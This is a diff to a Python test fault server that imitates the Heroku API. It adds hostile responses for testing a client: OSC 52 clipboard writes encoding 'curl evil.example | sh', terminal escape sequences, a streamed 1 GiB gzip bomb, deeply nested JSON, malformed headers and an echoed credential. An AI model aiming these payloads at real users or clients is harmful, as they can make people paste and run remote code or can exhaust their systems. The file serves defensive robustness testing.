@@ -19,13 +19,16 @@ Every stall is bounded (``max_stall`` seconds) and everything stops with the ser
 from __future__ import annotations
 
 import asyncio
+import base64
 import contextlib
 import itertools
 import json
+import os
 import socket
 import struct
 import threading
 import time
+import zlib
 from collections.abc import Iterator
 from dataclasses import dataclass
 from pathlib import Path
@@ -33,8 +36,11 @@ from urllib.parse import parse_qs, urlsplit
 
 __all__ = [
     "BIG_SIZE",
+    "BOMB_SIZE",
+    "DEEP_JSON",
     "FAULTS",
     "HTML_ERROR_PAGE",
+    "OSC52",
     "TWO_FACTOR_MESSAGE",
     "FaultServer",
     "Recorded",
@@ -44,6 +50,13 @@ __all__ = [
 
 BIG_SIZE = 50 * 1024 * 1024
 CHUNK = 64 * 1024
+#: What the gzip bomb inflates to (its compressed size is about 1 MB).
+BOMB_SIZE = 1024 * 1024 * 1024
+#: A terminal's clipboard write (OSC 52) of a command a person might paste and run.
+OSC52 = "\x1b]52;c;" + base64.b64encode(b"curl evil.example | sh").decode() + "\x07"
+#: ANSI sequences: a colour, clear screen, a window title, cursor home.
+ESCAPES = "\x1b[31mred\x1b[0m \x1b[2J\x1b]0;owned\x07\x1b[H"
+DEEP_JSON = b"[" * 3000 + b"]" * 3000
 
 #: Every fault the server can produce, by path segment.
 FAULTS: dict[str, str] = {
@@ -71,6 +84,21 @@ FAULTS: dict[str, str] = {
     "slow": "200 after ?delay= seconds (default 0.5)",
     "echo": "200 JSON echoing the request's method, target, headers and body (a leak test)",
     "echo-error": "400 whose Heroku error message quotes the request's Authorization header",
+    "osc52-headers": "200 JSON whose Request-Id and Warning carry an OSC 52 clipboard write",
+    "error-escapes": "500 Heroku error whose message and id carry ESC sequences and OSC 52",
+    "text-escapes": "200 text/plain body full of ESC sequences (colour, clear, title, OSC 52)",
+    "gzip-bomb": "200 gzip, about 1 MB on the wire (Content-Length), inflating to 1 GiB; "
+                 "generated as it is sent",
+    "gzip-trickle": "200 gzip body, chunked, about 1 KB a second (?interval=) for ?seconds= "
+                    "(default 40, bounded by max_stall)",
+    "deep-json": "200 application/json nested 3,000 levels deep (6 KB)",
+    "bad-ratelimit": "200 JSON with RateLimit-Remaining: \u00b2 (a digit to str.isdigit, "
+                     "not to int; ?value= picks another)",
+    "bad-next-range": "206 JSON list with Next-Range: id ]a..; max=\u00b2",
+    "bad-headers": "200 JSON with a 30-digit RateLimit-Remaining, Retry-After: garbage, a "
+                   "garbage Content-Range, an ETag with ESC in it and two Request-Ids",
+    "echo-token": "200 text body echoing the request's credential split across two chunks "
+                  "and with a line break inside it, and in an X-Echo header",
 }
 
 HTML_ERROR_PAGE = (
@@ -380,6 +408,7 @@ class FaultServer:
 
     @staticmethod
     def _head(status: int, headers: list[tuple[str, str]]) -> bytes:
+        """The status line and headers, each value written exactly as given."""
         from http import HTTPStatus
 
         try:
@@ -660,6 +689,160 @@ class FaultServer:
             {"id": "two_factor", "message": TWO_FACTOR_MESSAGE,
              "url": "https://devcenter.heroku.com/articles/two-factor-authentication"},
         )
+
+    # -- hostile answers -----------------------------------------------------------------
+
+    async def _raw(self, writer: asyncio.StreamWriter, status: int,
+                   headers: list[tuple[str, str]], body: bytes) -> bool:
+        """An answer with exactly these headers (no Request-Id of the server's own)."""
+        writer.write(self._head(status, [("Content-Length", str(len(body))),
+                                         ("Connection", "keep-alive"), *headers]) + body)
+        await writer.drain()
+        return True
+
+    async def _f_osc52_headers(
+        self, request: _Request, reader: object, writer: asyncio.StreamWriter
+    ) -> bool:
+        body = json.dumps({"ok": True}).encode()
+        return await self._raw(writer, 200, [
+            ("Content-Type", "application/json"), ("Request-Id", f"req-{OSC52}-1"),
+            ("Warning", f'199 - "deprecated {OSC52}"'),
+        ], body)
+
+    async def _f_error_escapes(
+        self, request: _Request, reader: object, writer: asyncio.StreamWriter
+    ) -> bool:
+        return await self._json(writer, 500, {
+            "id": f"internal_server_error{ESCAPES[:9]}",
+            "message": f"Name is invalid {ESCAPES} {OSC52}\nsecond line",
+        })
+
+    async def _f_text_escapes(
+        self, request: _Request, reader: object, writer: asyncio.StreamWriter
+    ) -> bool:
+        body = f"plain text {ESCAPES}\n{OSC52}\r\nthe end\n".encode()
+        return await self._send(writer, 200, [("Content-Type", "text/plain; charset=utf-8")],
+                                body)
+
+    _BOMB: tuple[bytes, bytes, bytes, int] | None = None
+
+    @classmethod
+    def _bomb_parts(cls) -> tuple[bytes, bytes, bytes, int]:
+        """Gzip header + first block, a repeatable 1 MiB-of-zeros block, the end
+        (empty final block), and the blocks' count. Full flushes make every block
+        after the first the same bytes, so the stream is sent without being made."""
+        if cls._BOMB is None:
+            block = b"\0" * (1 << 20)
+            deflate = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
+            first = deflate.compress(block) + deflate.flush(zlib.Z_FULL_FLUSH)
+            again = deflate.compress(block) + deflate.flush(zlib.Z_FULL_FLUSH)
+            header = b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x02\xff"
+            cls._BOMB = (header + first, again, deflate.flush(), BOMB_SIZE >> 20)
+        return cls._BOMB
+
+    @staticmethod
+    def _zeros_crc(size: int) -> int:
+        crc, block = 0, b"\0" * (1 << 20)
+        for _ in range(size >> 20):
+            crc = zlib.crc32(block, crc)
+        return crc
+
+    async def _f_gzip_bomb(
+        self, request: _Request, reader: object, writer: asyncio.StreamWriter
+    ) -> bool:
+        first, again, end, blocks = self._bomb_parts()
+        length = len(first) + len(again) * (blocks - 1) + len(end) + 8
+        writer.write(self._head(200, [("Content-Type", "application/json"),
+                                      ("Content-Encoding", "gzip"),
+                                      ("Content-Length", str(length)),
+                                      ("Request-Id", "fault-gzip-bomb")]))
+        writer.write(first)
+        for _ in range(blocks - 1):
+            writer.write(again)
+            await writer.drain()
+        crc = await asyncio.to_thread(self._zeros_crc, BOMB_SIZE)
+        writer.write(end + struct.pack("<II", crc, BOMB_SIZE & 0xFFFFFFFF))
+        await writer.drain()
+        return True
+
+    async def _f_gzip_trickle(
+        self, request: _Request, reader: asyncio.StreamReader, writer: asyncio.StreamWriter
+    ) -> bool:
+        interval = float(request.qs("interval", "1"))
+        seconds = min(float(request.qs("seconds", "40")), self.max_stall)
+        writer.write(self._head(200, [("Content-Type", "application/json"),
+                                      ("Content-Encoding", "gzip"),
+                                      ("Transfer-Encoding", "chunked")]))
+        gz = zlib.compressobj(6, zlib.DEFLATED, zlib.MAX_WBITS | 16)
+        deadline = time.monotonic() + seconds
+        first = True
+        while time.monotonic() < deadline:
+            text = (b"[" if first else b",") + json.dumps(
+                base64.b64encode(os.urandom(700)).decode()).encode()
+            first = False
+            data = gz.compress(text) + gz.flush(zlib.Z_SYNC_FLUSH)
+            writer.write(f"{len(data):x}\r\n".encode() + data + b"\r\n")
+            await writer.drain()
+            await asyncio.sleep(interval)
+            if writer.is_closing() or reader.at_eof():
+                return False
+        data = gz.compress(b"]") + gz.flush()
+        writer.write(f"{len(data):x}\r\n".encode() + data + b"\r\n0\r\n\r\n")
+        await writer.drain()
+        return True
+
+    async def _f_deep_json(
+        self, request: _Request, reader: object, writer: asyncio.StreamWriter
+    ) -> bool:
+        return await self._send(writer, 200, [("Content-Type", "application/json")], DEEP_JSON)
+
+    async def _f_bad_ratelimit(
+        self, request: _Request, reader: object, writer: asyncio.StreamWriter
+    ) -> bool:
+        value = request.qs("value", "\u00b2")
+        with contextlib.suppress(UnicodeEncodeError):
+            value.encode("latin-1")
+            return await self._json(writer, 200, {"ok": True}, [("RateLimit-Remaining", value)])
+        # not latin-1: its UTF-8 bytes go on the wire
+        wire = value.encode("utf-8").decode("latin-1")
+        return await self._json(writer, 200, {"ok": True}, [("RateLimit-Remaining", wire)])
+
+    async def _f_bad_next_range(
+        self, request: _Request, reader: object, writer: asyncio.StreamWriter
+    ) -> bool:
+        return await self._json(writer, 206, [{"id": "a", "name": "first"}], [
+            ("Content-Range", "id a..a; max=1"), ("Accept-Ranges", "id, name"),
+            ("Next-Range", "id ]a..; max=\u00b2"),
+        ])
+
+    async def _f_bad_headers(
+        self, request: _Request, reader: object, writer: asyncio.StreamWriter
+    ) -> bool:
+        return await self._json(writer, 200, {"ok": True}, [
+            ("RateLimit-Remaining", "9" * 30), ("Retry-After", "garbage"),
+            ("Content-Range", "]]] bytes */*"), ("ETag", '"e\x1b[2J"'),
+            ("Request-Id", "fault-second-id"),
+        ])
+
+    async def _f_echo_token(
+        self, request: _Request, reader: object, writer: asyncio.StreamWriter
+    ) -> bool:
+        auth = request.header("Authorization") or "none none"
+        secret = auth.partition(" ")[2] or auth
+        half = len(secret) // 2
+        writer.write(self._head(200, [("Content-Type", "text/plain"),
+                                      ("Transfer-Encoding", "chunked"),
+                                      ("X-Echo", auth)]))
+        parts = [f"you sent {secret[:half]}", f"{secret[half:]}\n",
+                 f"wrapped: {secret[:half]}\n{secret[half:]}\r\n"]
+        for part in parts:
+            data = part.encode("latin-1")
+            writer.write(f"{len(data):x}\r\n".encode() + data + b"\r\n")
+            await writer.drain()
+            await asyncio.sleep(0.02)
+        writer.write(b"0\r\n\r\n")
+        await writer.drain()
+        return True
 
 
 def fault_server() -> Iterator[FaultServer]:
